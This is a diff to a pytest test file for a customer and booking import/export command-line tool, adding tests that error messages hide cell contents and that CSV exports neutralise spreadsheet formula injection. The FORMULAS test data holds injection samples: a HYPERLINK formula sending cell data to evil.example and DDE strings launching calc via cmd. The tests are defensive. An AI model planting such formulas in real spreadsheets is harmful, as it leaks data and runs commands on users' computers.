@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+from contextlib import redirect_stdout
 from datetime import date
 from decimal import Decimal
 from pathlib import Path
@@ -19,6 +22,7 @@ from custmodel import (
     SalesChannel,
     Selection,
 )
+from custmodel.cli._transfer import BOOKING_COLUMNS, CUSTOMER_COLUMNS, Format, Writer
 from tests.cli.conftest import SETTINGS, Cli, CountedCli, one_line
 
 NEW_FIELDS = [field.name for field in attrs.fields(NewCustomer)]
@@ -153,12 +157,25 @@ def test_a_file_without_header_does_not_repeat_its_first_row(target: Cli, tmp_pa
     assert "private" in result.stderr
 
 
-def test_unknown_json_fields_are_named(target: Cli, tmp_path: Path) -> None:
-    """A JSON field custmodel does not know is refused by name."""
+def test_unknown_json_fields_are_named_by_position(target: Cli, tmp_path: Path) -> None:
+    """A JSON field custmodel does not know is refused by its position, not its name."""
     file = tmp_path / "k.jsonl"
     file.write_text('{"kind": "private", "last_name": "A", "nickname": "x"}\n', encoding="utf-8")
     result = target(f"import customers {file}")
-    assert "line 1: fields custmodel does not import: nickname" in result.stderr
+    assert result.stderr.endswith("line 1: fields custmodel does not import: field 3\n")
+
+
+def test_a_misspelt_column_is_named_with_the_field_it_resembles(
+    target: Cli, tmp_path: Path
+) -> None:
+    """A header name custmodel does not know is named by position and the likely field."""
+    file = tmp_path / "k.csv"
+    file.write_text("kind,lastname\nprivate,A\n", encoding="utf-8")
+    result = target(f"import customers {file}")
+    assert (
+        "error: the header row names columns custmodel does not import: column 2 (perhaps "
+        "last_name)"
+    ) == one_line(result.stderr)
 
 
 def test_invalid_json_names_the_line(target: Cli, tmp_path: Path) -> None:
@@ -454,3 +471,254 @@ def test_export_bookings_of_one_customer_takes_no_selection(source: Cli) -> None
 def test_export_batch_size_below_1_is_a_usage_error(source: Cli) -> None:
     """--batch-size 0 on an export exits with 2."""
     assert 2 == source("export customers - --format csv --batch-size 0").exit_code
+
+
+#: A cell no column accepts (a control character, no number, no date), with a person's name.
+MARKED_CELL = "Hans Mxyzptlk\x07 geb. 1970"
+
+
+def _file_with(tmp_path: Path, suffix: str, columns: dict[str, str]) -> Path:
+    """A one-row import file of ``columns`` in the format ``suffix`` names."""
+    file = tmp_path / f"import.{suffix}"
+    if suffix == "csv":
+        with file.open("w", encoding="utf-8", newline="") as handle:
+            writer = csv.writer(handle)
+            writer.writerows([list(columns), list(columns.values())])
+    else:
+        file.write_text(json.dumps(columns) + "\n", encoding="utf-8")
+    return file
+
+
+@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
+@pytest.mark.parametrize("column", [*CUSTOMER_COLUMNS])
+def test_a_bad_customer_cell_is_never_repeated(tmp_path: Path, suffix: str, column: str) -> None:
+    """Whatever column holds the marked cell, the import's output does not show it."""
+    row = {"kind": "private", "last_name": "Neumann", column: MARKED_CELL}
+    result = Cli("memory://")(f"import customers {_file_with(tmp_path, suffix, row)}")
+
+    assert (False, False) == ("Mxyzptlk" in result.stderr, "Mxyzptlk" in result.stdout)
+
+
+@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
+@pytest.mark.parametrize("column", [c for c in BOOKING_COLUMNS if c != "channel_external"])
+def test_a_bad_booking_cell_is_never_repeated(tmp_path: Path, suffix: str, column: str) -> None:
+    """Whatever column holds the marked cell, the booking import's output does not show it."""
+    row = {
+        "reference": "VG-1", "customer": "1", "kind": "booking", "departure": "2027-05-01",
+        "point_of_sale": "AG1", column: MARKED_CELL,
+    }  # fmt: skip
+    result = Cli("memory://")(f"import bookings {_file_with(tmp_path, suffix, row)}")
+
+    assert (2, False) == (result.exit_code, "Mxyzptlk" in result.stderr)
+
+
+def test_a_money_cell_is_named_by_row_and_column(tmp_path: Path) -> None:
+    """A money cell that is no amount is refused naming its row and column, not its content."""
+    row = {
+        "reference": "VG-1", "customer": "1", "kind": "booking", "departure": "2027-05-01",
+        "point_of_sale": "AG1", "open_amount": "Hans Müller geb. 1970",
+    }  # fmt: skip
+    result = Cli("memory://")(f"import bookings {_file_with(tmp_path, 'csv', row)}")
+
+    assert (
+        "error: 1 bad rows in import.csv, nothing was imported: row 1 (line 2): open_amount: "
+        "not an amount of money"
+    ) == one_line(result.stderr)
+
+
+def test_a_file_without_header_row_names_no_lower_case_cell(tmp_path: Path) -> None:
+    """A first data row taken for the header shows no cell, even one that looks like a field."""
+    file = tmp_path / "k.csv"
+    file.write_text("private,mueller,hans\n", encoding="utf-8")
+    result = Cli("memory://")(f"import customers {file}")
+
+    assert (
+        "error: the header row names columns custmodel does not import: private, column 2, column 3"
+    ) == one_line(result.stderr)
+
+
+#: Cells a spreadsheet runs as formulas, one per trigger character a customer field can hold
+#: (carriage returns are no character of any field; the Writer test covers them).
+FORMULAS = {
+    "=": '=HYPERLINK("http://evil.example/?"&A1,"klick")',
+    "+": "+49 221 12345",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def csv_rows(text: str) -> list[dict[str, str]]:
+    """The rows of CSV text, by column name."""
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
+def test_export_customers_guards_formula_cells(cli: Cli, formula: str) -> None:
+    """A customer field starting with a formula trigger is written with a leading quote."""
+    with cli.book() as book:
+        book.register(CustomerKind.PRIVATE, formula, city=formula)
+
+    row = csv_rows(cli.ok("export customers - --format csv").stdout)[0]
+
+    assert ("'" + formula, "'" + formula) == (row["last_name"], row["city"])
+
+
+def test_export_customers_guards_a_leading_tab(cli: Cli) -> None:
+    """Notes starting with a tab (the one field that holds tabs) get a leading quote."""
+    with cli.book() as book:
+        book.register(CustomerKind.PRIVATE, "Tab", notes="\t=1+1")
+
+    row = csv_rows(cli.ok("export customers - --format csv").stdout)[0]
+
+    assert "'\t=1+1" == row["notes"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
+def test_export_bookings_guards_formula_cells(cli: Cli, formula: str) -> None:
+    """Booking texts starting with a formula trigger are written with a leading quote."""
+    with cli.book() as book:
+        book.register(CustomerKind.PRIVATE, "Weber")
+        booking = Booking(formula[:100], 1, BookingKind.BOOKING, date(2027, 5, 1), formula[:100])
+        book.record_booking(attrs.evolve(booking, destination=formula, travel_type=formula))
+
+    row = csv_rows(cli.ok("export bookings - --format csv").stdout)[0]
+
+    assert ["'" + formula[:100]] * 2 + ["'" + formula] * 2 == [
+        row["reference"], row["point_of_sale"], row["destination"], row["travel_type"]
+    ]  # fmt: skip
+
+
+def test_export_raw_cells_writes_formulas_as_stored(cli: Cli) -> None:
+    """--raw-cells writes customer and booking cells exactly as stored."""
+    with cli.book() as book:
+        book.register(CustomerKind.PRIVATE, "=1+1")
+        booking = Booking("VG-1", 1, BookingKind.BOOKING, date(2027, 5, 1), "AG1")
+        book.record_booking(attrs.evolve(booking, destination="@Kreta"))
+
+    customers = csv_rows(cli.ok("export customers - --format csv --raw-cells").stdout)
+    bookings = csv_rows(cli.ok("export bookings - --format csv --raw-cells").stdout)
+
+    assert ("=1+1", "@Kreta") == (customers[0]["last_name"], bookings[0]["destination"])
+
+
+def test_export_leaves_plain_numbers_alone(cli: Cli) -> None:
+    """A cell that is a plain number, such as -12.50 or +3, is no formula and stays as it is."""
+    with cli.book() as book:
+        book.register(CustomerKind.PRIVATE, "Zahl", code1="-12.50", code2="+3")
+
+    row = csv_rows(cli.ok("export customers - --format csv").stdout)[0]
+
+    assert ("-12.50", "+3") == (row["code1"], row["code2"])
+
+
+def test_export_json_lines_hold_formulas_as_stored(cli: Cli) -> None:
+    """JSON Lines are no spreadsheet input: values starting with = are written unchanged."""
+    with cli.book() as book:
+        book.register(CustomerKind.PRIVATE, "=1+1")
+
+    line = cli.ok("export customers - --format jsonl").stdout
+
+    assert "=1+1" == json.loads(line)["last_name"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "export customers - --format jsonl --raw-cells",
+        "export bookings x.jsonl --raw-cells",
+        "import customers {file} --raw-cells",
+    ],
+    ids=["export customers", "export bookings", "import customers"],
+)
+def test_raw_cells_with_json_lines_is_a_usage_error(cli: Cli, tmp_path: Path, command: str) -> None:
+    """--raw-cells is about CSV cells: with JSON Lines it is refused with exit code 2."""
+    file = tmp_path / "k.jsonl"
+    file.write_text('{"kind": "private", "last_name": "A"}\n', encoding="utf-8")
+
+    result = cli(command.format(file=file))
+
+    assert (2, "error: --raw-cells applies to CSV") == (result.exit_code, result.stderr[:33])
+
+
+#: Every field of a customer that an import takes as text.
+TEXT_FIELDS = (
+    "last_name", "first_name", "salutation", "company", "street", "postal_code", "city",
+    "country", "email", "phone", "code1", "code2", "notes",
+)  # fmt: skip
+#: Texts starting with every formula trigger a field can hold, with quotes in front of them
+#: (as an earlier guard would write them), and quotes that guard nothing.
+ROUND_TRIP_TEXTS = [
+    *FORMULAS.values(), "'=1+1", "''@x", "'-", "'Hallo'", "'", "''", "-12.50", "+3", "- 5",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", ROUND_TRIP_TEXTS)
+def test_formula_cells_survive_export_and_import(target: Cli, tmp_path: Path, text: str) -> None:
+    """A customer whose every text field starts with a trigger or a quote comes back the same."""
+    file = tmp_path / "k.csv"
+    with target.book() as book:
+        # Postal codes hold 32 characters at most.
+        book.register(CustomerKind.PRIVATE, **dict.fromkeys(TEXT_FIELDS, text[:32]))
+    target.ok(f"export customers {file}")
+
+    target.ok(f"import customers {file}")
+
+    with target.book() as book:
+        first, second = drafts_of(book.select())
+    assert first == second
+
+
+def test_notes_starting_with_a_tab_survive_export_and_import(target: Cli, tmp_path: Path) -> None:
+    """Notes that start with a tab come back from a CSV export unchanged."""
+    file = tmp_path / "k.csv"
+    with target.book() as book:
+        book.register(CustomerKind.PRIVATE, "Tab", notes="\t'=x\n")
+    target.ok(f"export customers {file}")
+
+    target.ok(f"import customers {file}")
+
+    with target.book() as book:
+        assert ["\t'=x\n", "\t'=x\n"] == [c.notes for c in book.select()]
+
+
+@pytest.mark.parametrize("text", ROUND_TRIP_TEXTS)
+def test_booking_formula_cells_survive_export_and_import(
+    source: Cli, target: Cli, tmp_path: Path, text: str
+) -> None:
+    """A booking whose texts start with a trigger or a quote comes back the same."""
+    customers, bookings = tmp_path / "k.csv", tmp_path / "b.csv"
+    with source.book() as book:
+        booking = Booking(text, 1, BookingKind.BOOKING, date(2027, 5, 1), text)
+        book.record_booking(attrs.evolve(booking, destination=text, travel_type=text))
+    source.ok(f"export customers {customers}")
+    source.ok(f"export bookings {bookings}")
+
+    target.ok(f"import customers {customers}")
+    target.ok(f"import bookings {bookings}")
+
+    with source.book() as before, target.book() as after:
+        assert before.get_booking(text) == after.get_booking(text)
+
+
+def test_import_removes_the_guard_of_a_hand_written_cell(target: Cli, tmp_path: Path) -> None:
+    """A cell written as '=1+1 is imported as =1+1; with --raw-cells as it is."""
+    file = tmp_path / "k.csv"
+    file.write_text("kind,last_name,city\nprivate,'=1+1,'Köln'\n", encoding="utf-8")
+
+    target.ok(f"import customers {file}")
+    target.ok(f"import customers {file} --raw-cells")
+
+    with target.book() as book:
+        assert [("=1+1", "'Köln'"), ("'=1+1", "'Köln'")] == [
+            (c.last_name, c.city) for c in book.select()
+        ]
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_writer_guards_every_formula_trigger(trigger: str) -> None:
+    """Every OWASP trigger character, carriage return and tab included, gets a quote."""
+    sink = io.StringIO()
+    with redirect_stdout(sink), Writer("-", Format.CSV, ("a", "b")) as writer:
+        writer.write(None, lambda: [f"{trigger}cmd", f"'{trigger}cmd"])
+
+    assert f"a,b\n'{trigger}cmd,''{trigger}cmd\n" == sink.getvalue()
